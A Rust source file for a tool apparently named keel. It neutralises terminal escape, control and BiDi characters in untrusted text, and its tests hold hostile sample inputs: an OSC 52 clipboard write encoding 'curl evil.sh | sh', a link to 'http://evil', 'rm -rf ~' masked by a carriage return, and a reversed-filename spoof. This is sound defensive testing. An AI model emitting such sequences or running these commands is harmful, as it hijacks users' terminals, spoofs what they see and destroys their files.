//! Text bound for a terminal: terminals are not a channel (DESIGN.md §5).
//!
//! Model text, tool output, file names and arguments come from outside keel and may carry
//! control and escape sequences: `ESC [ 2K` erases a line, `\r` returns to its start and
//! overwrites it, OSC 52 (`ESC ] 52 ; c ; …`) writes the clipboard, and BiDi overrides
//! (U+202E) reorder what is shown. Every path that puts such text on a terminal (the
//! progress view, `keel log`, the consent prompt, the answer at a terminal, error lines)
//! passes it through [`neutralize`] first, which makes each of those characters visible
//! as an escape (`\x1b`, `\r`, `\u{202e}`) and keeps everything else, including any
//! UTF-8 text (é, 日本, emoji), unchanged. keel's own colours are added after this, so the
//! only escape sequences a terminal receives are keel's.

use std::borrow::Cow;
use std::fmt::Write as _;

/// `text` with every control and escape character made visible.
///
/// Kept as they are: newline and tab (callers that need one line use [`one_line`], and
/// multi-line blocks are indented line by line so no line can pass for keel's own), and
/// every printable character. Escaped: C0 controls and DEL as `\xNN` (`\r` as `\r`), C1
/// controls (U+0080–U+009F, which some terminals read as `ESC`-sequences) and the BiDi
/// and line-separator controls (U+061C, U+200E, U+200F, U+202A–U+202E, U+2066–U+2069,
/// U+2028, U+2029) as `\u{…}`. Borrows when nothing needs escaping.
pub fn neutralize(text: &str) -> Cow<'_, str> {
    if !text.chars().any(needs_escape) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if needs_escape(c) {
            push_escape(&mut out, c);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// `text` neutralised and on one line (newlines shown as `⏎`), at most `max_chars`
/// characters of the original, with `…` when clipped. Reads no more of `text` than it
/// shows: results may be megabytes.
pub fn one_line(text: &str, max_chars: usize) -> String {
    let mut out = String::new();
    let mut chars = text.chars();
    for c in chars.by_ref().take(max_chars) {
        match c {
            '\n' => out.push('⏎'),
            '\t' => out.push(' '),
            c if needs_escape(c) => push_escape(&mut out, c),
            c => out.push(c),
        }
    }
    if chars.next().is_some() {
        out.push('…');
    }
    out
}

/// `text` neutralised, as at most `max_lines` lines (each at most `max_chars`
/// characters), the last ones when `tail`, else the first ones; a note says how many
/// were left out. The lines contain no newline, so a caller can prefix each with a frame.
pub fn block(text: &str, max_lines: usize, max_chars: usize, tail: bool) -> Vec<String> {
    let all: Vec<&str> = text.lines().collect();
    let n_lines = all.len();
    let shown: Vec<&str> = if n_lines <= max_lines {
        all
    } else if tail {
        all[n_lines - max_lines..].to_vec()
    } else {
        all[..max_lines].to_vec()
    };
    let mut lines: Vec<String> = shown.iter().map(|line| one_line(line, max_chars)).collect();
    if n_lines > max_lines {
        let note = more_lines(n_lines - max_lines);
        if tail {
            lines.insert(0, note);
        } else {
            lines.push(note);
        }
    }
    lines
}

/// `… 3 more lines` (or `… 1 more line`).
pub fn more_lines(n: usize) -> String {
    format!("… {n} more line{}", if n == 1 { "" } else { "s" })
}

fn needs_escape(c: char) -> bool {
    match c {
        '\n' | '\t' => false,
        '\u{0}'..='\u{1f}' | '\u{7f}'..='\u{9f}' => true,
        '\u{061c}'
        | '\u{200e}'
        | '\u{200f}'
        | '\u{202a}'..='\u{202e}'
        | '\u{2066}'..='\u{2069}' => true,
        '\u{2028}' | '\u{2029}' => true,
        _ => false,
    }
}

fn push_escape(out: &mut String, c: char) {
    match c {
        '\r' => out.push_str("\\r"),
        '\n' => out.push_str("\\n"),
        '\t' => out.push_str("\\t"),
        c if u32::from(c) < 0x80 => {
            let _ = write!(out, "\\x{:02x}", u32::from(c));
        }
        c => {
            let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
        }
    }
}

/// keel's own colours, added after text is neutralised; none when `enabled` is false
/// (not a terminal, or `NO_COLOR`).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Paint {
    pub enabled: bool,
}

impl Paint {
    fn wrap(self, code: &str, text: &str) -> String {
        if self.enabled { format!("\x1b[{code}m{text}\x1b[0m") } else { text.to_owned() }
    }

    pub fn red(self, text: &str) -> String {
        self.wrap("31", text)
    }

    pub fn green(self, text: &str) -> String {
        self.wrap("32", text)
    }

    pub fn yellow(self, text: &str) -> String {
        self.wrap("33", text)
    }

    pub fn cyan(self, text: &str) -> String {
        self.wrap("36", text)
    }

    pub fn dim(self, text: &str) -> String {
        self.wrap("2", text)
    }

    pub fn bold(self, text: &str) -> String {
        self.wrap("1", text)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Every byte a terminal could act on, after neutralising: none.
    fn assert_inert(shown: &str) {
        for c in shown.chars() {
            assert!(
                c == '\n' || c == '\t' || !needs_escape(c),
                "{c:?} reached the terminal in {shown:?}"
            );
        }
    }

    #[test]
    fn redteam_terminal_escape_sequences_are_made_visible() {
        let hostile = "ok\x1b[2J\x1b[31mred\x1b[0m\x07";
        let shown = neutralize(hostile);
        assert_inert(&shown);
        assert_eq!(shown, "ok\\x1b[2J\\x1b[31mred\\x1b[0m\\x07");
        // The legitimate neighbour: ordinary text, accents, CJK and emoji pass unchanged.
        let plain = "café 日本語 🚀 👩‍💻 tab\there\nnext line";
        assert_eq!(neutralize(plain), plain);
        assert!(matches!(neutralize(plain), Cow::Borrowed(_)));
    }

    #[test]
    fn redteam_terminal_osc52_clipboard_write_is_inert() {
        // OSC 52 sets the clipboard to base64 text; terminated by BEL or by ST (ESC \).
        for hostile in ["\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07", "\x1b]52;c;ZXZpbA==\x1b\\"] {
            let shown = neutralize(hostile);
            assert_inert(&shown);
            assert!(shown.starts_with("\\x1b]52;c;"), "{shown}");
        }
        // OSC 8 hyperlinks and 8-bit C1 CSI/OSC are just as inert.
        let shown =
            neutralize("\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\ \u{9b}2J \u{9d}52;c;x\u{9c}");
        assert_inert(&shown);
        assert!(shown.contains("\\u{9b}2J") && shown.contains("click"), "{shown}");
    }

    #[test]
    fn redteam_terminal_bidi_overrides_are_named() {
        // "exe.txt" shown reversed as "txt.exe" by U+202E; isolates and marks likewise.
        let hostile = "invoice\u{202e}txt.exe \u{2066}a\u{2069} \u{200f}\u{061c}";
        let shown = neutralize(hostile);
        assert_inert(&shown);
        assert_eq!(shown, "invoice\\u{202e}txt.exe \\u{2066}a\\u{2069} \\u{200f}\\u{61c}");
        // Right-to-left text itself is not a control and is shown as it is.
        assert_eq!(neutralize("שלום مرحبا"), "שלום مرحبا");
    }

    #[test]
    fn redteam_terminal_carriage_return_cannot_overwrite() {
        let hostile = "rm -rf ~\r echo harmless      ";
        let shown = one_line(hostile, 200);
        assert_eq!(shown, "rm -rf ~\\r echo harmless      ");
        assert_inert(&shown);
        // A backspace run cannot erase what came before either.
        let shown = neutralize("danger\x08\x08\x08\x08\x08\x08safe!!");
        assert!(shown.starts_with("danger\\x08"), "{shown}");
        // Line and paragraph separators are not line breaks on the terminal's terms.
        assert_eq!(one_line("a\u{2028}b\nc", 10), "a\\u{2028}b⏎c");
    }

    #[test]
    fn one_line_clips_by_characters_not_bytes() {
        assert_eq!(one_line("日本語テキスト", 3), "日本語…");
        assert_eq!(one_line("short", 10), "short");
        let lines = block("1\n2\n3\n4\n5", 2, 10, true);
        assert_eq!(lines, vec!["… 3 more lines", "4", "5"]);
        let lines = block("1\n2\n3", 2, 10, false);
        assert_eq!(lines, vec!["1", "2", "… 1 more line"]);
    }

    #[test]
    fn paint_is_off_when_not_a_terminal() {
        assert_eq!(Paint { enabled: false }.red("x"), "x");
        assert_eq!(Paint { enabled: true }.green("x"), "\x1b[32mx\x1b[0m");
    }
}
